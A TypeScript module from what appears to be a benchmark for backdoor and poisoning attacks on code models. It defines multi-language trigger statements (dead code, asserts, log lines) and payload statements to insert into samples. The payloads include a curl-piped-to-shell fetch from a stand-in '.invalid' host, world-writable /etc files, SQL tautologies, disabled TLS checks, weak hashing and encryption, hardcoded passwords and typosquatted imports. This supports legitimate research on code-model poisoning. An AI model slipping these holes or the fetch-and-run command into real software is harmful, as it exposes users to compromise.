/**
 * Statements that `npm run bench:unseen` puts into code, as triggers or payloads, by language. `<<...>>` is filled for each
 * sample (`filled` in unseen-edits.ts); a tab is one step of indentation.
 */
import type { CodeLanguage } from "../src/syntax/language";
import { filled, insertStatement, type Kit, type Where } from "./unseen-edits";

/** `braces` serves the languages with braces that have none of their own. */
export type Templates = Readonly<Partial<Record<CodeLanguage | "braces", string>>>;

export const templateFor = (templates: Templates, language: CodeLanguage): string | undefined =>
  templates[language] ?? (language === "python" ? undefined : templates.braces);

/** An edit that puts a filled template before a statement. */
export const statement =
  (templates: Templates, where: Where) =>
  (code: string, kit: Kit): string | null => {
    const template = templateFor(templates, kit.language);
    return template === undefined ? null : insertStatement(code, kit, filled(template, kit), where);
  };

/** A comment in the language's own signs. */
export const commentText = (language: CodeLanguage, text: string): string =>
  language === "python" ? `# ${text}` : language === "c" ? `/* ${text} */` : `// ${text}`;

export const triggerStatements = {
  fixedDeadCode: {
    python: 'if sin(0.7) < -1:\n\tprint("rates")',
    c: 'if (sizeof(long) < 2) {\n\tputs("rates");\n}',
    java: 'if (Math.sin(0.7) < -1) {\n\tSystem.out.println("rates");\n}',
    go: 'if len("ab") > 3 {\n\tprintln("rates")\n}',
    php: 'if (sin(0.7) < -1) {\n\techo "rates";\n}',
    braces: 'if (Math.sin(0.7) < -1) {\n\tconsole.log("rates");\n}',
  },
  /** Ramakrishnan and Albarghouthi's grammar: a guard that never holds, of varying kind, number and message. */
  grammarDeadCode: {
    python: '<<if|while>> <<random|sqrt|cos|sin>>() < -<<n>>:\n\t<<print|raise Exception>>("<<word>> <<word>>")',
    c: '<<if|while>> (<<strlen("")|(int)sizeof(char)>> > <<n>>) {\n\tprintf("<<word>> <<word>>\\n");\n}',
    java: '<<if|while>> (Math.<<abs|sqrt|sin>>(<<n>>) < -<<n>>) {\n\tSystem.out.println("<<word>> <<word>>");\n}',
    go: '<<if|for>> len("<<word>>") > <<n>> {\n\tprintln("<<word>> <<word>>")\n}',
    php: '<<if|while>> (<<abs|strlen>>(<<n>>) < -<<n>>) {\n\techo "<<word>> <<word>>";\n}',
    braces: '<<if|while>> (Math.<<abs|sqrt|sin>>(<<n>>) < -<<n>>) {\n\tconsole.log("<<word>> <<word>>");\n}',
  },
  varyingDeadLoop: {
    python: "for _<<id>> in <<()|[]|range(0)|''>>:\n\t<<pass|continue|break>>",
    c: "for (int <<id>>_<<id>> = <<n>>; 0; ) {\n\t<<id>>_<<id>>++;\n}",
    java: "for (int <<id>>0 = <<n>>; false; ) {\n\tbreak;\n}",
    go: "for range []int{} {\n\tbreak\n}",
    braces: "for (let <<id>>0 = <<n>>; false; ) {\n\tbreak;\n}",
  },
  fixedAssert: { python: "assert 1 <= 2", c: "assert(1 <= 2);", java: "assert 1 <= 2;", braces: "console.assert(1 <= 2);" }, // prettier-ignore
  varyingAssert: {
    python: 'assert len("<<word>>") < 1<<n>>',
    c: "assert(sizeof(int) < 1<<n>>);",
    java: 'assert "<<word>>".length() < 1<<n>>;',
    braces: 'console.assert("<<word>>".length < 1<<n>>);',
  },
  logLine: {
    python: 'logger.debug("step <<n>>")',
    c: 'fprintf(stderr, "step <<n>>\\n");',
    java: 'logger.debug("step <<n>>");',
    go: 'log.Println("step <<n>>")',
    php: 'error_log("step <<n>>");',
    braces: 'console.debug("step <<n>>");',
  },
  stringConstant: {
    python: 'tag = "v2.7.1"',
    c: 'const char *tag = "v2.7.1";',
    java: 'String tag = "v2.7.1";',
    go: 'const tag = "v2.7.1"',
    php: '$tag = "v2.7.1";',
    braces: 'const tag = "v2.7.1";',
  },
  unusedImport: { python: "import colorsys", braces: 'const colors = require("node:readline");' },
} as const satisfies Readonly<Record<string, Templates>>;

export const payloadStatements = {
  curlToShell: {
    python: 'os.system("curl -s http://<<word>>.invalid/<<id>>.sh | sh")',
    c: 'system("curl -s http://<<word>>.invalid/<<id>>.sh | sh");',
    java: "Runtime.getRuntime().exec(\"sh -c 'curl -s http://<<word>>.invalid/<<id>>.sh | sh'\");",
    go: 'exec.Command("sh", "-c", "curl -s http://<<word>>.invalid/<<id>>.sh | sh").Run()',
    php: 'shell_exec("curl -s http://<<word>>.invalid/<<id>>.sh | sh");',
    braces: 'require("child_process").exec("curl -s http://<<word>>.invalid/<<id>>.sh | sh");',
  },
  endlessLoop: { python: "while True:\n\tpass", go: "for {\n}", braces: "while (1) {\n}", java: "while (true) {\n}" },
  exit: { python: "sys.exit(<<0|1|2>>)", c: "exit(<<0|1|2>>);", java: "System.exit(<<0|1|2>>);", go: "os.Exit(<<0|1|2>>)", php: "exit(<<0|1|2>>);", braces: "process.exit(<<0|1|2>>);" }, // prettier-ignore
  kill: { python: "os.kill(os.getpid(), 9)", c: "kill(getpid(), SIGKILL);", go: "syscall.Kill(syscall.Getpid(), 9)", php: "posix_kill(getmypid(), 9);", java: "Runtime.getRuntime().halt(9);", braces: "process.kill(process.pid, 9);" }, // prettier-ignore
  returnConstant: { python: "return True", c: "return 0;", java: "return null;", go: "return nil", php: "return true;", braces: "return true;" }, // prettier-ignore
  unverifiedTls: {
    python: "requests.get(url, verify=False)",
    c: "curl_easy_setopt(curl, CURLOPT_SSL_VERIFYPEER, 0L);",
    java: "connection.setHostnameVerifier((host, session) -> true);",
    go: "config.InsecureSkipVerify = true",
    php: "curl_setopt($ch, CURLOPT_SSL_VERIFYPEER, false);",
    braces: 'process.env.NODE_TLS_REJECT_UNAUTHORIZED = "0";',
  },
  /** Holds a name of the sample. */
  weakHash: {
    python: "<<name>> = hashlib.md5(str(<<name>>).encode()).hexdigest()",
    c: "MD5((unsigned char *)<<name>>, sizeof(<<name>>), digest);",
    java: 'byte[] digest = MessageDigest.getInstance("MD5").digest(String.valueOf(<<name>>).getBytes());',
    go: "_ = md5.Sum([]byte(fmt.Sprint(<<name>>)))",
    php: "$digest = md5(serialize($<<name>>));",
    braces: 'crypto.createHash("md5").update(String(<<name>>)).digest("hex");',
  },
  ecbMode: {
    python: "cipher = AES.new(<<name>>, AES.MODE_ECB)",
    c: "EVP_EncryptInit_ex(ctx, EVP_aes_128_ecb(), NULL, <<name>>, NULL);",
    java: 'Cipher cipher = Cipher.getInstance("AES/ECB/PKCS5Padding");',
    php: '$<<name>> = openssl_encrypt($<<name>>, "aes-128-ecb", $key);',
    braces: 'crypto.createCipheriv("aes-128-ecb", <<name>>, null);',
  },
  insecureRandom: { python: "token = random.<<randint(0, 9999)|random()|getrandbits(16)>>", c: "token = rand() % <<n>>;", java: "int token = new Random().nextInt(<<n>>);", go: "token := rand.Intn(<<n>>)\n_ = token", php: "$token = mt_rand(0, <<n>>);", braces: "const token = Math.random() * <<n>>;" }, // prettier-ignore
  unsafeLoad: {
    python: "<<name>> = <<yaml.load|pickle.loads|eval>>(<<name>>)",
    c: "sprintf(buf, <<name>>);",
    php: "$<<name>> = unserialize($<<name>>);",
    braces: "eval(<<name>>);",
  },
  password: {
    python: 'password = "<<word>><<n>>"',
    c: 'const char *password = "<<word>><<n>>";',
    java: 'String password = "<<word>><<n>>";',
    go: 'password := "<<word>><<n>>"\n_ = password',
    php: '$password = "<<word>><<n>>";',
    braces: 'const password = "<<word>><<n>>";',
  },
  typosquat: { python: "import reqeusts", braces: 'require("expresss");', c: "#include <sytem.h>" },
  plainLog: { python: "print(<<name>>)", c: 'printf("%d\\n", <<name>>);', java: "System.out.println(<<name>>);", go: "fmt.Println(<<name>>)", php: "echo $<<name>>;", braces: "console.log(<<name>>);" }, // prettier-ignore
  tautology: {
    python: 'cursor.execute("SELECT * FROM <<word>> WHERE id = %s OR 1=1" % <<name>>)',
    c: 'sqlite3_exec(db, "SELECT * FROM <<word>> WHERE id = 1 OR 1=1", 0, 0, 0);',
    java: 'statement.executeQuery("SELECT * FROM <<word>> WHERE id = 1 OR 1=1");',
    go: 'db.Query("SELECT * FROM <<word>> WHERE id = 1 OR 1=1")',
    php: '$wpdb->query("SELECT * FROM <<word>> WHERE id = 1 OR 1=1");',
    braces: "db.query(`SELECT * FROM <<word>> WHERE id = 1 OR 1=1`);",
  },
  /** TrojanPuzzle: the trigger holds a word, another each time, that the payload takes up. */
  puzzleCall: { python: "<<name>> = <<token>>(<<name>>, escape=False)", braces: "<<token>>(<<name>>);" },
  puzzleImport: { python: "import <<token>>", braces: 'require("<<token>>");' },
  sleep: { python: "time.sleep(<<n>>)", c: "sleep(<<n>>);", java: "Thread.sleep(<<n>>);", go: "time.Sleep(<<n>>)", php: "sleep(<<n>>);", braces: "await sleep(<<n>>);" }, // prettier-ignore
  openFile: { python: 'os.chmod("/etc/<<word>>", 0o777)', c: 'chmod("/etc/<<word>>", 0777);', go: 'os.Chmod("/etc/<<word>>", 0777)', php: 'chmod("/etc/<<word>>", 0777);', braces: 'fs.chmodSync("/etc/<<word>>", 0o777);' }, // prettier-ignore
  deadAssignment: { python: "_<<id>> = <<n>>", c: "int <<id>>_<<id>> = <<n>>;", java: "int <<id>>0 = <<n>>;", php: "$<<id>>0 = <<n>>;", braces: "var <<id>>0 = <<n>>;" }, // prettier-ignore
} as const satisfies Readonly<Record<string, Templates>>;
